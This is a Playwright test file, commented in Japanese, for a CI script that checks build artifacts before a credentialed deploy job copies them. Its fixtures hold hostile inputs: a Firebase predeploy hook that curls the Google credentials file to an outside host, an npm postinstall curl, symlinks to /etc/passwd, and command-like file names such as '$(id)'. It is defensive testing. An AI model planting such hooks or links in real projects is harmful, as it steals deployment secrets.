/**
 * issue 60 の 1: 鍵を持つジョブが成果物を取り出しの上に置く前の検査（scripts/unpack-artifact.mts）に、悪意のある
 * 成果物を渡す。ワークフローと同じく、npm を使わずに Node.js だけでスクリプトを動かす（ブラウザーを使わない。
 * Node.js を 36 回起動し、ワーカーの時間の合計で約 15 秒（負荷のある 2 コアのマシンで）。関数の成果物（--function）も同じように確かめる。
 */
import {execFileSync} from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {expect, test} from '@playwright/test';
import {runCommand, type Run} from '../support/run-command';

const script = path.resolve('scripts/unpack-artifact.mts');

type Tree = {artifact: string; checkout: string; outside: string};

/** build ジョブが上げるのと同じ形の成果物（2 つのサイト）と、空の取り出し、外のフォルダー。 */
function tree(): Tree {
  const root = mkdtempSync(path.join(tmpdir(), 'denki-artifact-'));
  const artifact = path.join(root, 'artifact');
  mkdirSync(path.join(artifact, 'build', 'blog', '2026'), {recursive: true});
  mkdirSync(path.join(artifact, 'build', 'empty'), {recursive: true});
  mkdirSync(path.join(artifact, 'build-editor', 'admin'), {recursive: true});
  writeFileSync(path.join(artifact, 'build', 'index.html'), '<!doctype html><title>電鬼</title>');
  writeFileSync(path.join(artifact, 'build', 'blog', '2026', '記事 (1).html'), 'post');
  writeFileSync(path.join(artifact, 'build', '.nojekyll'), '');
  writeFileSync(path.join(artifact, 'build-editor', 'admin', 'index.html'), 'editor');
  const checkout = path.join(root, 'checkout');
  mkdirSync(checkout);
  writeFileSync(path.join(checkout, 'firebase.json'), '{"main": true}');
  const outside = path.join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'secret.txt'), 'outside');
  return {artifact, checkout, outside};
}

/** ワークフローと同じ呼び方: 取り出しのフォルダーで node scripts/unpack-artifact.mts <成果物> <フォルダー>... */
function unpack(t: Tree, ...folders: string[]): Promise<Run> {
  return runCommand(process.execPath, [script, t.artifact, ...folders], {cwd: t.checkout});
}

/** 断られ、理由が日本語で出て、取り出しは前のまま（firebase.json だけ）。 */
async function expectRefused(t: Tree, reason: string, ...folders: string[]): Promise<void> {
  const run = await unpack(t, ...(folders.length > 0 ? folders : ['build']));
  expect(run.code, run.output).toBe(1);
  expect(run.output).toContain('成果物を使えません（何も写していません）');
  expect(run.output).toContain(reason);
  expect(readdirSync(t.checkout)).toEqual(['firebase.json']);
  expect(readFileSync(path.join(t.checkout, 'firebase.json'), 'utf8')).toBe('{"main": true}');
}

test('a clean artifact: only the folders asked for are copied, with every file and empty folder, and nothing else', async () => {
  const t = tree();
  const run = await unpack(t, 'build');
  expect(run, run.output).toMatchObject({code: 0});
  expect(readdirSync(t.checkout).sort()).toEqual(['build', 'firebase.json']);
  expect(
    readFileSync(path.join(t.checkout, 'build', 'blog', '2026', '記事 (1).html'), 'utf8'),
  ).toBe('post');
  expect(existsSync(path.join(t.checkout, 'build', '.nojekyll'))).toBe(true);
  expect(existsSync(path.join(t.checkout, 'build', 'empty'))).toBe(true);
  // 本番のジョブは 2 つのサイトを写す。
  const both = tree();
  const runBoth = await unpack(both, 'build', 'build-editor');
  expect(runBoth, runBoth.output).toMatchObject({code: 0});
  expect(readdirSync(both.checkout).sort()).toEqual(['build', 'build-editor', 'firebase.json']);
});

test('firebase.json, .firebaserc, another file or folder at the root of the artifact are refused', async () => {
  for (const [name, folder] of [
    ['firebase.json', false],
    ['.firebaserc', false],
    ['package.json', false],
    ['functions', true],
    ['.github', true],
  ] as const) {
    const t = tree();
    const at = path.join(t.artifact, name);
    if (folder) mkdirSync(at);
    else
      writeFileSync(
        at,
        '{"hosting": {"predeploy": ["curl -d @$GOOGLE_APPLICATION_CREDENTIALS x"]}}',
      );
    await expectRefused(t, `"${name}": 成果物の根にあってはいけない`);
  }
});

test('symlinks are refused: inside build/, as build/ itself, and pointing out of the artifact', async () => {
  const inside = tree();
  symlinkSync(
    path.join(inside.outside, 'secret.txt'),
    path.join(inside.artifact, 'build', 'x.txt'),
  );
  await expectRefused(inside, `${path.join('build', 'x.txt')}: シンボリックリンク`);

  const folderLink = tree();
  symlinkSync(folderLink.outside, path.join(folderLink.artifact, 'build', 'blog', 'out'));
  await expectRefused(folderLink, `${path.join('build', 'blog', 'out')}: シンボリックリンク`);

  // build/ そのものがリンク（取り出しの firebase.json を含むフォルダーを指す）。
  const asBuild = tree();
  execFileSync('rm', ['-r', path.join(asBuild.artifact, 'build')]);
  symlinkSync(asBuild.checkout, path.join(asBuild.artifact, 'build'));
  await expectRefused(asBuild, 'build: フォルダーではない（シンボリックリンク）');

  // 写すほうではないフォルダーの中のリンクも断る（成果物のどこにもあってはいけない）。
  const other = tree();
  symlinkSync('/etc/passwd', path.join(other.artifact, 'build-editor', 'admin', 'p'));
  await expectRefused(other, 'シンボリックリンク');
});

test('a FIFO and a name with a control character are refused; odd but printable names pass', async () => {
  const fifo = tree();
  execFileSync('mkfifo', [path.join(fifo.artifact, 'build', 'pipe')]);
  await expectRefused(fifo, `${path.join('build', 'pipe')}: FIFO`);

  const control = tree();
  writeFileSync(path.join(control.artifact, 'build', 'a\nb.html'), 'x');
  await expectRefused(control, '名前に制御文字がある');

  const odd = tree();
  for (const name of ['..a', '-rf', '$(id)', '*', 'a b', '\\x', '"q"', '\u202etxt.exe'])
    writeFileSync(path.join(odd.artifact, 'build', name), name);
  const run = await unpack(odd, 'build');
  expect(run, run.output).toMatchObject({code: 0});
  expect(readFileSync(path.join(odd.checkout, 'build', '$(id)'), 'utf8')).toBe('$(id)');
});

test('folders outside the artifact, missing folders, and a target that already exists are refused', async () => {
  const t = tree();
  await expectRefused(t, '../outside: 写せるのは build、build-editor だけ', '../outside');
  await expectRefused(t, 'firebase.json: 写せるのは build、build-editor だけ', 'firebase.json');
  const missing = tree();
  execFileSync('rm', ['-r', path.join(missing.artifact, 'build-editor')]);
  await expectRefused(missing, 'build-editor: 成果物に無い', 'build', 'build-editor');
  const exists = tree();
  mkdirSync(path.join(exists.checkout, 'build'));
  const run = await unpack(exists, 'build');
  expect(run.code).toBe(1);
  expect(run.output).toContain('build: 写す先に既にある');
  expect(readdirSync(path.join(exists.checkout, 'build'))).toEqual([]);
  const none = tree();
  none.artifact = path.join(none.outside, 'no-such-folder');
  await expectRefused(none, '成果物のフォルダーが無い');
});

// issue 65: ログインの関数は鍵を持たない build ジョブが組み、functions ジョブは成果物の index.js だけを
// functions/lib/ に写す（ルートの npm ci も、firebase.json の predeploy の組み直しもしない）。
type FunctionTree = {artifact: string; checkout: string; outside: string};

/** build ジョブが上げる関数の成果物（根に index.js だけ）と、functions/ のある取り出し。 */
function functionTree(): FunctionTree {
  const root = mkdtempSync(path.join(tmpdir(), 'denki-function-artifact-'));
  const artifact = path.join(root, 'functions');
  mkdirSync(artifact);
  writeFileSync(path.join(artifact, 'index.js'), 'exports.editorAuth = 1;');
  const checkout = path.join(root, 'checkout');
  mkdirSync(path.join(checkout, 'functions'), {recursive: true});
  writeFileSync(path.join(checkout, 'functions', 'package.json'), '{"main": "lib/index.js"}');
  const outside = path.join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'index.js'), 'outside');
  return {artifact, checkout, outside};
}

function unpackFunction(t: FunctionTree): Promise<Run> {
  return runCommand(process.execPath, [script, '--function', t.artifact], {cwd: t.checkout});
}

async function expectFunctionRefused(t: FunctionTree, reason: string): Promise<void> {
  const run = await unpackFunction(t);
  expect(run.code, run.output).toBe(1);
  expect(run.output).toContain('成果物を使えません（何も写していません）');
  expect(run.output).toContain(reason);
  expect(existsSync(path.join(t.checkout, 'functions', 'lib', 'index.js'))).toBe(false);
}

test('the function artifact: only index.js is copied into functions/lib/', async () => {
  const t = functionTree();
  const run = await unpackFunction(t);
  expect(run, run.output).toMatchObject({code: 0});
  expect(run.output).toContain('functions/lib/index.js を写しました');
  expect(readdirSync(path.join(t.checkout, 'functions')).sort()).toEqual(['lib', 'package.json']);
  expect(readdirSync(path.join(t.checkout, 'functions', 'lib'))).toEqual(['index.js']);
  expect(readFileSync(path.join(t.checkout, 'functions', 'lib', 'index.js'), 'utf8')).toBe(
    'exports.editorAuth = 1;',
  );
});

test('the function artifact is refused with another file at its root, a symlink or folder as index.js, no index.js, or functions/lib already there', async () => {
  for (const name of ['package.json', 'firebase.json', '.env', 'index.js.map']) {
    const t = functionTree();
    writeFileSync(path.join(t.artifact, name), '{"scripts": {"postinstall": "curl x"}}');
    await expectFunctionRefused(t, `"${name}": 関数の成果物の根にあってはいけない`);
  }
  const link = functionTree();
  execFileSync('rm', [path.join(link.artifact, 'index.js')]);
  symlinkSync(path.join(link.outside, 'index.js'), path.join(link.artifact, 'index.js'));
  await expectFunctionRefused(link, 'index.js: 普通のファイルではない（シンボリックリンク）');

  const folder = functionTree();
  execFileSync('rm', [path.join(folder.artifact, 'index.js')]);
  mkdirSync(path.join(folder.artifact, 'index.js'));
  await expectFunctionRefused(folder, 'index.js: 普通のファイルではない');

  const missing = functionTree();
  execFileSync('rm', [path.join(missing.artifact, 'index.js')]);
  await expectFunctionRefused(missing, 'index.js: 成果物に無い');

  const exists = functionTree();
  mkdirSync(path.join(exists.checkout, 'functions', 'lib'));
  await expectFunctionRefused(exists, 'functions/lib: 写す先に既にある');

  // functions/lib がリンク（外の空のフォルダーを指す）でも、そこへは書かない。
  const linkedLib = functionTree();
  const elsewhere = path.join(linkedLib.outside, 'empty');
  mkdirSync(elsewhere);
  symlinkSync(elsewhere, path.join(linkedLib.checkout, 'functions', 'lib'));
  await expectFunctionRefused(linkedLib, 'functions/lib: 写す先に既にある');
  expect(readdirSync(elsewhere)).toEqual([]);

  const noFunctions = functionTree();
  execFileSync('rm', ['-r', path.join(noFunctions.checkout, 'functions')]);
  await expectFunctionRefused(noFunctions, 'functions: 取り出しに普通のフォルダーが無い');
});
